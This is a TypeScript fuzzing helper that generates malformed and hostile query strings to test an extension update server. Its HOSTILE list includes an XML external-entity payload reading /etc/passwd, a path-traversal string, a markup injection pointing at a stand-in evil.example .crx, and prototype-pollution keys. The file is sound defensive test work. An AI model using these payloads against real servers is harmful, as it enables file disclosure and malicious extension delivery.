/** Update queries that no browser sends: pieces of real ones, broken ones and hostile ones in random order. */
const HOSTILE = [
  '"><codebase url="http://evil.example/x.crx"/>',
  "']]><!--",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '\u0000',
  '\u001b[31m',
  '\ud800',
  '𝒜',
  '../../etc/passwd',
  '%',
  '%zz',
  '%c0%af',
  '%u0041',
  '__proto__',
  'constructor',
  'a'.repeat(5_000)
]
const VERSIONS = [
  '0.0.0.0',
  '1',
  '1.0.0',
  '2.0.0',
  '1.2.3.4.5',
  '1.2.3.a',
  '99999.1',
  '65535.65535.65535.65535',
  '-1',
  '01.2',
  '',
  '1e3',
  '9'.repeat(400)
]
const KEYS = ['x', 'X', 'os', 'prodversion', 'client', 'acceptformat', '', 'x[]', 'x[id]', '__proto__']

/** @param ids extension ids that the server has */
export function randomUpdateQuery(random: () => number, ids: readonly string[]): string {
  const pick = <Value>(values: readonly Value[], otherwise: Value) => values[Math.floor(random() * values.length)] ?? otherwise
  const id = () => (random() < 0.4 ? pick(ids, '') : anyId())
  const version = () => (random() < 0.4 ? '0.0.0.0' : pick([...VERSIONS, ...HOSTILE], ''))
  const anyId = () => pick(['a'.repeat(32), 'a'.repeat(31), 'A'.repeat(32), 'z'.repeat(32), '', ...HOSTILE], '')
  const encode = (text: string) => (random() < 0.2 ? text : encodeURIComponent(text.toWellFormed()))
  const parts = Array.from({ length: Math.floor(random() * 6) }, () => {
    const app = [`id=${id()}`, `v=${version()}`, ...(random() < 0.8 ? ['uc'] : [])].join('&')
    const value = random() < 0.7 ? app : pick([...VERSIONS, ...HOSTILE], '')
    return `${random() < 0.7 ? 'x' : encode(pick(KEYS, ''))}${random() < 0.9 ? '=' : ''}${encode(value)}`
  })
  // What HTTP itself cannot carry in an address never reaches a server.
  return parts
    .join(random() < 0.9 ? '&' : ';')
    .replace(/[\u0000-\u0020"<>\\^`{|}\u007f-\uffff]/g, character => encodeURIComponent(character.toWellFormed()))
}
